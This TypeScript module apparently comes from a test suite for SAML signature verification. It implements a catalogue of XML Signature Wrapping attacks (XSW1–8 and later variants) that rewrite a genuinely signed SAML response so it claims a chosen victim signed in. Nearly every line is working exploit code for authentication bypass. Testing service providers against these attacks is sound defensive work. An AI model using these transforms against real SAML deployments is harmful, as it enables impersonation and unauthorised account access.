/** What signature wrapping aims at: to be taken for this person. */
export const victim = 'victim@acme.example';

/** An attack takes a really signed message and gives back one that should say the victim signed in. */
export type Attack = (signed: string) => string;

const assertionOf = (xml: string) => /<saml:Assertion.*<\/saml:Assertion>/s.exec(xml)?.[0] ?? '';
const signatureIn = (xml: string) => /<ds:Signature .*?<\/ds:Signature>/s.exec(xml)?.[0] ?? '';
const withoutSignature = (xml: string) => xml.replace(signatureIn(xml), '');
const withEvilName = (xml: string) => xml.replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${victim}`);
const withEvilId = (xml: string) => xml.replace(/ ID="[^"]*"/, ' ID="_evil"');
const evilOf = (assertion: string) => withEvilId(withEvilName(withoutSignature(assertion)));
const beforeEnd = (xml: string, added: string) => xml.replace(/<\/[^>]*>$/, (end) => added + end);
const afterIssuer = (xml: string, added: string) => xml.replace('</saml:Issuer>', `</saml:Issuer>${added}`);
const inSignature = (signature: string, added: string) => beforeEnd(signature, added);
const asObject = (xml: string) =>
  `<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${xml}</ds:Object>`;

/** Swaps the assertion of the message for what `make` makes of it. */
function inPlace(make: (assertion: string) => string): Attack {
  return (xml) => xml.replace(assertionOf(xml), (assertion) => make(assertion));
}

/** A response around the signed one, with the given place for the original. */
function aroundResponse(place: (evil: string, original: string, signature: string) => string): Attack {
  return (xml) => {
    const original = withoutSignature(xml);
    return place(withEvilId(withEvilName(original)), original, signatureIn(xml));
  };
}

/** On a response whose Response is signed: XSW 1 and 2 of "On Breaking SAML" (USENIX Security 2012). */
export const responseAttacks: Readonly<Record<string, Attack>> = {
  'XSW1, the original inside the signature': aroundResponse((evil, original, signature) =>
    afterIssuer(evil, inSignature(signature, original)),
  ),
  'XSW2, the original before the signature': aroundResponse((evil, original, signature) =>
    afterIssuer(evil, original + signature),
  ),
  'the original in an Object': aroundResponse((evil, original, signature) =>
    afterIssuer(evil, inSignature(signature, asObject(original))),
  ),
  'the original in Extensions': aroundResponse((evil, original, signature) =>
    afterIssuer(evil, `${signature}<samlp:Extensions>${original}</samlp:Extensions>`),
  ),
};

/** On a response whose Assertion is signed: XSW 3 to 8 of the same paper, and later finds. */
export const assertionAttacks: Readonly<Record<string, Attack>> = {
  'XSW3, evil before the original': inPlace((original) => evilOf(original) + original),
  'XSW3b, evil after the original': inPlace((original) => original + evilOf(original)),
  'XSW4, the original inside evil': inPlace((original) => beforeEnd(evilOf(original), original)),
  'XSW5, the signature kept in evil, the original at the end': inPlace(
    (original) => afterIssuer(evilOf(original), signatureIn(original)) + withoutSignature(original),
  ),
  'XSW6, the original inside the signature of evil': inPlace((original) =>
    afterIssuer(evilOf(original), inSignature(signatureIn(original), withoutSignature(original))),
  ),
  'XSW7, evil in Extensions': (xml) =>
    afterIssuer(xml, `<samlp:Extensions>${evilOf(assertionOf(xml))}</samlp:Extensions>`),
  'XSW8, the original in an Object of the signature': inPlace((original) =>
    afterIssuer(evilOf(original), inSignature(signatureIn(original), asObject(withoutSignature(original)))),
  ),
  'the original in Advice': inPlace((original) =>
    evilOf(original).replace(
      '</saml:Conditions>',
      `</saml:Conditions><saml:Advice>${original}</saml:Advice>`,
    ),
  ),
  'the original in StatusDetail': (xml) =>
    xml
      .replace(assertionOf(xml), evilOf(assertionOf(xml)))
      .replace(
        '</samlp:Status>',
        `<samlp:StatusDetail>${assertionOf(xml)}</samlp:StatusDetail></samlp:Status>`,
      ),
  'the original in an AttributeValue': inPlace((original) =>
    evilOf(original).replace(/<saml:AttributeValue[^>]*>[^<]*/, `<saml:AttributeValue>${original}`),
  ),
  'the signature hoisted to the Response, the original in Extensions (samlify#634)': (xml) =>
    afterIssuer(
      xml.replace(assertionOf(xml), evilOf(assertionOf(xml))),
      `${signatureIn(xml)}<samlp:Extensions>${withoutSignature(assertionOf(xml))}</samlp:Extensions>`,
    ),
  'the signature hoisted to the Response, evil in place': (xml) =>
    afterIssuer(xml.replace(assertionOf(xml), evilOf(assertionOf(xml))), signatureIn(xml)),
  'evil with the same ID': inPlace((original) => withEvilName(withoutSignature(original)) + original),
  'evil alone with the signature of the original': inPlace((original) =>
    afterIssuer(evilOf(original), signatureIn(original)),
  ),
  'evil alone with the same ID and the signature': inPlace(withEvilName),
  'evil in another document behind the first': (xml) => xml + evilOf(assertionOf(xml)),
};
